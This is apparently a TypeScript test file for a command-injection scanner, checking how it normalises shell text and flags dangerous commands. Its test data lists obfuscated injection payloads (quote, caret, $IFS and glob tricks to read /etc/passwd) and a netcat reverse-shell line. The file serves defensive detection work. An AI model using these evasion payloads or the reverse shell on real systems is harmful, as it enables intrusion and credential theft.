import { describe, it } from "node:test";
import assert from "node:assert/strict";
import {
  isDangerous,
  isGlobbed,
  isTarget,
} from "../../../src/injection-scan/families/command/danger.ts";
import { eachLead, Lead } from "../../../src/injection-scan/families/command/leads.ts";
import { baseName } from "../../../src/injection-scan/families/command/names.ts";
import {
  type Command,
  emptyCommand,
  readCommand,
} from "../../../src/injection-scan/families/command/read.ts";

/** The first simple command of a text. */
function read(text: string, plus = false): Command {
  const command = emptyCommand();
  readCommand(text, 0, text.length, plus, undefined, command);
  return command;
}

/** The places where commands may start, as their kinds and the text behind them. */
function leads(text: string): string[] {
  const names = Object.keys(Lead);
  const found: string[] = [];
  eachLead(
    text,
    0,
    text.length,
    true,
    (kind, at) => found.push(`${names[kind]} ${text.slice(at)}`),
  );
  return found;
}

describe("readCommand", () => {
  const cases: Record<string, string[]> = {
    "ls -la /tmp": ["ls", "-la", "/tmp"],
    "c''at 'x'": ["cat", "x"],
    "'wh'oami": ["whoami"],
    "c\\at \\/x": ["cat", "\\/x"],
    "type c:\\boot.ini": ["type", "c:\\boot.ini"],
    "w^h^oami": ["whoami"],
    "cat$ifs/etc/passwd": ["cat", "/etc/passwd"],
    "cat${ifs}/x": ["cat", "/x"],
    "c$@at x": ["cat", "x"],
    "who$()ami": ["whoami"],
    "pi``ng 1": ["ping", "1"],
    "pi<()ng 1": ["ping", "1"],
    "{cat,/etc/passwd} x": ["cat", "/etc/passwd", "x"],
    "n$u\\c$u -l": ["nc", "-l"],
    "ping%programfiles:~10,-5%1": ["ping", "1"],
    "cat<x>y": ["cat", "x", "y"],
    "id; ls": ["id"],
    "id%0als": ["id"],
    "id\\n": ["id"],
    "echo $(id)": ["echo"],
    "echo `id`": ["echo"],
  };
  for (const [text, words] of Object.entries(cases)) {
    it(`reads ${JSON.stringify(text)} as a shell does`, () => {
      assert.deepEqual(read(text).words, words);
    });
  }

  it("counts what was hidden in the name", () => {
    assert.equal(read("w'h'oami").tricks, 2);
    assert.equal(read("cat x''y").tricks, 0);
    assert.equal(read("cat x''y").inner, 2);
    assert.equal(read("it's").tricks, 0);
    assert.equal(read("'time' who").tricks, 0);
  });

  it("sees redirections and lists in braces", () => {
    assert.ok(read("sort < x").redirects);
    assert.ok(read("{ls,-l}").braced);
    assert.ok(!read("{ ls; }").braced);
  });

  it("reads plus signs as spaces when configured", () => {
    assert.deepEqual(read("dir+c:\\", true).words, ["dir", "c:\\"]);
    assert.deepEqual(read("dir+c:\\").words, ["dir+c:\\"]);
  });

  it("keeps no more than some words of some length", () => {
    assert.equal(read("x ".repeat(100)).words.length, 12);
    assert.equal(read("x".repeat(1000)).words[0].length, 96);
  });
});

describe("eachLead", () => {
  it("finds separators, but not those of entities and redirections", () => {
    assert.deepEqual(leads("a; b && c"), ["start a; b && c", "separator b && c", "separator c"]);
    assert.deepEqual(leads("a &amp; b &#38; c"), ["start a &amp; b &#38; c"]);
    assert.deepEqual(leads("a 2>&1"), ["start a 2>&1"]);
  });

  it("finds substitutions and calls", () => {
    assert.deepEqual(leads("x$(id)").slice(1), ["substitution id)"]);
    assert.deepEqual(leads("x`id`").slice(1), ["substitution id`"]);
    assert.deepEqual(leads("exec('id')").slice(1), ["call 'id')"]);
    assert.deepEqual(leads("regexp('id')").slice(1), []);
    assert.deepEqual(leads("x$()y").slice(1), []);
  });

  it("finds line breaks, also as they are written", () => {
    assert.deepEqual(leads("a\nid").slice(1), ["line id"]);
    assert.deepEqual(leads("a%0aid").slice(1), ["line id"]);
  });

  it("takes a run of separators for one", () => {
    assert.deepEqual(leads("a;|&b").slice(1), ["separator b"]);
  });
});

describe("what a command line is after", () => {
  it("knows names by their last part", () => {
    assert.equal(baseName("/usr/bin/python3.10"), "python");
    assert.equal(baseName("c:\\windows\\system32\\cmd.exe"), "cmd");
    assert.equal(baseName("foo"), "foo");
  });

  it("knows files by patterns of them", () => {
    for (
      const path of ["/etc/passwd", "/e??/p??s??", "/etc/pa[s]swd", "/etc/[!x]asswd", "/et*/*wd"]
    ) {
      assert.ok(isTarget(path), path);
    }
    for (const path of ["*", "*.txt", "/home/ann/a.txt", "???"]) assert.ok(!isTarget(path), path);
    for (const path of ["/???/c?t", "/bin/ca?", "/???/b??h"]) assert.ok(isGlobbed(path), path);
    for (const path of ["/???/???", "/a/b", "/api/?"]) assert.ok(!isGlobbed(path), path);
  });

  it("tells dangerous lines from what anyone runs", () => {
    assert.ok(isDangerous("nc", "nc -e /bin/sh 10.0.0.1 4444", false));
    assert.ok(isDangerous("powershell", "powershell -enc abc", false));
    assert.ok(!isDangerous("powershell", "powershell for beginners", false));
    assert.ok(isDangerous("ping", "ping -c 1 10.0.0.1", true));
    assert.ok(!isDangerous("ping", "ping -c 1 10.0.0.1", false));
    assert.ok(!isDangerous("ls", "ls -la docs", true));
  });
});
